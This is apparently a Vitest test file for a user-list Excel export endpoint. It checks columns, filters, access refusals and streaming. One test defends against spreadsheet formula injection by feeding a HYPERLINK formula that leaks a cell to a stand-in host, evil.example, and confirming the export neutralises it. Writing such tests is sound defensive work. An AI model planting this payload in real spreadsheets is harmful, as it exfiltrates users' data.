import { once } from 'node:events'
import http from 'node:http'
import type { PassThrough } from 'node:stream'
import { permissionRefusal, userExportColumns } from '@spaceboard/domain'
import { eq, sql } from 'drizzle-orm'
import ExcelJS from 'exceljs'
import type { FastifyReply } from 'fastify'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { clients, countries, users } from '../../src/db/schema/index.ts'
import { streamWorkbook } from '../../src/platform/xlsx.ts'
import { createTestApp, logins, type TestApp } from '../helpers.ts'

let t: TestApp
let superCookie: string
let harbourAdmin: string
let harbourCsr: string
const HARBOUR = 1
const LAGOON = 3

beforeAll(async () => {
  t = await createTestApp()
  superCookie = await t.signIn(logins.super)
  harbourAdmin = await t.signIn(logins.harbourAdmin)
  harbourCsr = await t.signIn(logins.harbourCsr)
})
afterAll(() => t.close())

type Json = Record<string, unknown>
type Row = Record<(typeof userExportColumns)[number], unknown>

const headers = [
  'Organization',
  'TypeOfUser',
  'FirstName',
  'LastName',
  'Email',
  'PhoneNumber',
  'ClientName',
  'ClientEmail',
  'ClientPhone',
  'Street',
  'City',
  'State',
  'Country',
  'PostCode',
  'Status',
  'LastLoginDateTime',
]

function exportCall(query = '', cookie: string | null = superCookie) {
  return t.app.inject({
    method: 'GET',
    url: `/api/user?report=1${query}`,
    headers: cookie ? { cookie } : {},
  })
}

/** Reads the workbook back: its header row, and every other row as header → cell. */
async function readWorkbook(body: Buffer) {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(body as unknown as ExcelJS.Buffer)
  expect(workbook.worksheets).toHaveLength(1)
  const sheet = workbook.worksheets[0]
  if (!sheet) throw new Error('no sheet')
  const header = (sheet.getRow(1).values as unknown[]).slice(1)
  const rows: Row[] = []
  const cells: ExcelJS.Row[] = []
  sheet.eachRow((row, number) => {
    if (number === 1) return
    const entry: Record<string, unknown> = {}
    headers.forEach((name, index) => {
      const value = row.getCell(index + 1).value
      // An empty text and an absent cell read back alike.
      entry[name] = value === undefined || value === '' ? null : value
    })
    rows.push(entry as Row)
    cells.push(row)
  })
  return { header, rows, cells, sheet }
}

async function exported(query = '') {
  const response = await exportCall(query)
  expect(response.statusCode).toBe(200)
  return readWorkbook(response.rawPayload)
}

async function create(payload: Json) {
  const response = await t.app.inject({
    method: 'POST',
    url: '/api/user',
    headers: { cookie: superCookie },
    payload: {
      password: 'Secret123!',
      company_name: 'Acme Consulting',
      organization_id: HARBOUR,
      ...payload,
    },
  })
  if (response.statusCode !== 201) throw new Error(`create failed: ${response.body}`)
  return response.json() as Json & { id: number; email: string }
}

const seededEmails = [
  'super@spaceboard.test',
  'admin@harbour.test',
  'csr@harbour.test',
  'admin@summit.test',
  'csr@summit.test',
  'alice@acme.test',
  'arjun@acme.test',
  'bella@blueocean.test',
  'carlos@coraltech.test',
  'dana@denverdesign.test',
  'mei@marina.test',
]

describe('GET /api/user?report=1 (Excel export, super only)', () => {
  it('answers an xlsx attachment named "User List.xlsx" with the spec’s columns in order', async () => {
    const response = await exportCall()
    expect(response.statusCode).toBe(200)
    expect(response.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    )
    expect(response.headers['content-disposition']).toContain('attachment; filename="User List.xlsx"')
    expect(response.headers['cache-control']).toBe('no-store')
    expect(response.headers['content-range']).toBeUndefined()
    const { header, rows } = await readWorkbook(response.rawPayload)
    expect(header).toEqual(headers)
    expect([...userExportColumns]).toEqual(headers)
    // Every user, in id order (seed order).
    expect(rows.map((r) => r.Email)).toEqual(seededEmails)
  })

  it('writes each column of a seeded user', async () => {
    const { rows } = await exported()
    const alice = rows.find((r) => r.Email === 'alice@acme.test')
    expect(alice).toEqual({
      Organization: 'Harbour Workspaces',
      TypeOfUser: 'basic',
      FirstName: 'Alice',
      LastName: 'Nguyen',
      Email: 'alice@acme.test',
      PhoneNumber: null,
      ClientName: 'Acme Consulting',
      ClientEmail: 'accounts@acme.test',
      // A leading + is one of the formula triggers, so the phone is neutralised like a formula.
      ClientPhone: '+61 2 9111 2222',
      Street: null,
      City: null,
      State: null,
      Country: null,
      PostCode: null,
      Status: 'Active',
      LastLoginDateTime: null,
    })
    const superRow = rows.find((r) => r.Email === logins.super)
    expect(superRow).toMatchObject({
      Organization: null,
      TypeOfUser: 'super',
      ClientName: null,
      Status: 'Active',
    })
    // The super user signed in for this test: the last login is a real date cell.
    const lastLogin = superRow?.LastLoginDateTime
    expect(lastLogin).toBeInstanceOf(Date)
    expect(Math.abs((lastLogin as Date).getTime() - Date.now())).toBeLessThan(10 * 60_000)
  })

  it('writes every column of a fully filled, archived user', async () => {
    const [australia] = await t.database.db
      .select({ id: countries.id, name: countries.name })
      .from(countries)
      .where(eq(countries.code, 'AU'))
    const view = await create({
      type: 'csr',
      first_name: 'Quinn',
      last_name: 'Export',
      email: 'quinn.export@example.test',
      mobile: '0400 123 456',
      company_name: 'Blue Ocean Legal',
      street: '1 George Street',
      city: 'Sydney',
      state: 'New South Wales',
      country_id: australia?.id,
      postcode: '2000',
    })
    const signIn = await t.app.inject({
      method: 'POST',
      url: '/api/login',
      payload: { backend: 1, email: view.email, password: 'Secret123!' },
    })
    expect(signIn.statusCode).toBe(200)
    const archive = await t.app.inject({
      method: 'PUT',
      url: `/api/user/${view.id}/status`,
      headers: { cookie: superCookie },
      payload: { id: view.id, code: 'ARCHIVE' },
    })
    expect(archive.statusCode).toBe(200)
    const [stored] = await t.database.db.select().from(users).where(eq(users.id, view.id))

    const { rows } = await exported()
    const row = rows.find((r) => r.Email === view.email)
    expect(row).toEqual({
      Organization: 'Harbour Workspaces',
      TypeOfUser: 'csr',
      FirstName: 'Quinn',
      LastName: 'Export',
      Email: 'quinn.export@example.test',
      PhoneNumber: '0400 123 456',
      ClientName: 'Blue Ocean Legal',
      ClientEmail: 'accounts@blueocean.test',
      ClientPhone: '+61 2 9111 2222',
      Street: '1 George Street',
      City: 'Sydney',
      State: 'New South Wales',
      Country: australia?.name,
      PostCode: '2000',
      Status: 'Archived',
      LastLoginDateTime: stored?.lastLogin,
    })
    // The last row is the newest user.
    expect(rows.at(-1)?.Email).toBe(view.email)
  })

  it('skips users flagged exclude_from_reporting (they stay in the list)', async () => {
    const hidden = await create({
      type: 'basic',
      first_name: 'Hidden',
      last_name: 'Reporter',
      email: 'hidden.reporter@example.test',
      exclude_from_reporting: true,
    })
    const { rows } = await exported()
    expect(rows.map((r) => r.Email)).not.toContain(hidden.email)
    const list = await t.app.inject({
      method: 'GET',
      url: '/api/user?search=Reporter',
      headers: { cookie: superCookie },
    })
    expect(list.json().map((u: Json) => u.email)).toEqual([hidden.email])
  })

  it('applies the list filters', async () => {
    const csr = await exported('&userType=csr&excludeArchived=1')
    expect(csr.rows.map((r) => r.Email)).toEqual(['csr@harbour.test', 'csr@summit.test'])
    const noSuper = await exported('&excludeSuper=1')
    expect(noSuper.rows.map((r) => r.TypeOfUser)).not.toContain('super')
    const [acme] = await t.database.db
      .select({ id: clients.id })
      .from(clients)
      .where(eq(clients.name, 'Acme Consulting'))
    const byClient = await exported(`&clientId=${acme?.id}`)
    expect(byClient.rows.map((r) => r.Email)).toEqual(['alice@acme.test', 'arjun@acme.test'])
    const bySearch = await exported('&search=denverdesign')
    expect(bySearch.rows.map((r) => r.Email)).toEqual(['dana@denverdesign.test'])
    const byOrganization = await exported(`&organization_id=${LAGOON}`)
    expect(byOrganization.rows.map((r) => r.Email)).toEqual(['mei@marina.test'])
    const none = await exported('&search=nobodyatall')
    expect(none.header).toEqual(headers)
    expect(none.rows).toEqual([])
  })

  it('neutralises formula injection: such texts start with an apostrophe and are never formulas', async () => {
    const view = await create({
      type: 'basic',
      first_name: 'Formula',
      last_name: 'Probe',
      email: 'formula.probe@example.test',
      street: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      company_name: '@SUM(1+1)',
      new_client: true,
      company_email: 'probe@example.test',
    })
    expect(view.clientName).toBe('@SUM(1+1)')
    const { rows, cells } = await exported()
    const index = rows.findIndex((r) => r.Email === view.email)
    const row = rows[index]
    expect(row?.Street).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`)
    expect(row?.ClientName).toBe("'@SUM(1+1)")
    const cellRow = cells[index]
    for (let column = 1; column <= headers.length; column++) {
      const type = cellRow?.getCell(column).type
      expect(type, headers[column - 1]).not.toBe(ExcelJS.ValueType.Formula)
    }
    expect(cellRow?.getCell(headers.indexOf('Street') + 1).type).toBe(ExcelJS.ValueType.String)
  })

  it('refuses admins and csr (403) and anonymous callers (401)', async () => {
    const admin = await exportCall('', harbourAdmin)
    expect(admin.statusCode).toBe(403)
    expect(admin.json()).toEqual({ message: permissionRefusal('users.export') })
    expect((await exportCall('', harbourCsr)).statusCode).toBe(403)
    expect((await exportCall('', null)).statusCode).toBe(401)
  })

  it('streams more users than one batch without losing or repeating any', async () => {
    const bulk = 4_321
    await t.database.db.execute(sql`
      insert into users (organization_id, type, first_name, last_name, email, password_hash)
      select ${LAGOON}, 'basic', 'Bulk', 'User', 'bulk' || g || '@example.test', 'x'
      from generate_series(1, ${bulk}) g`)
    const { rows } = await exported(`&organization_id=${LAGOON}&userType=basic`)
    expect(rows).toHaveLength(bulk + 1)
    const emails = rows.map((r) => r.Email)
    expect(new Set(emails).size).toBe(emails.length)
    expect(emails[0]).toBe('mei@marina.test')
    expect(emails.at(-1)).toBe(`bulk${bulk}@example.test`)
  })
})

describe('streaming the workbook', () => {
  it('stops reading batches once the client has gone away', async () => {
    const sent: PassThrough[] = []
    const reply = {
      header() {
        return this
      },
      send(stream: PassThrough) {
        sent.push(stream)
        return this
      },
    } as unknown as FastifyReply
    let read = 0
    let closed = false
    async function* batches() {
      try {
        for (let i = 0; i < 1_000; i++) {
          read++
          // The reader disconnects while the second batch is read: Fastify destroys the stream.
          if (i === 1) sent[0]?.destroy()
          yield Array.from({ length: 100 }, (_, n) => [`row ${i}-${n}`, n])
        }
      } finally {
        closed = true
      }
    }
    await streamWorkbook(reply, 'Probe.xlsx', ['Text', 'Number'], batches())
    expect(read).toBe(2)
    expect(closed).toBe(true)
  })

  it('survives a download aborted half-way and keeps serving', async () => {
    await t.app.listen({ port: 0, host: '127.0.0.1' })
    const address = t.app.server.address()
    if (!address || typeof address === 'string') throw new Error('no port')
    const request = http.get({
      host: '127.0.0.1',
      port: address.port,
      path: '/api/user?report=1',
      headers: { cookie: superCookie },
    })
    const [response] = (await once(request, 'response')) as [http.IncomingMessage]
    expect(response.statusCode).toBe(200)
    await once(response, 'data')
    request.destroy()
    await once(request, 'close')
    const after = await exportCall('&search=denverdesign')
    expect(after.statusCode).toBe(200)
    expect((await readWorkbook(after.rawPayload)).rows.map((r) => r.Email)).toEqual([
      'dana@denverdesign.test',
    ])
  })
})
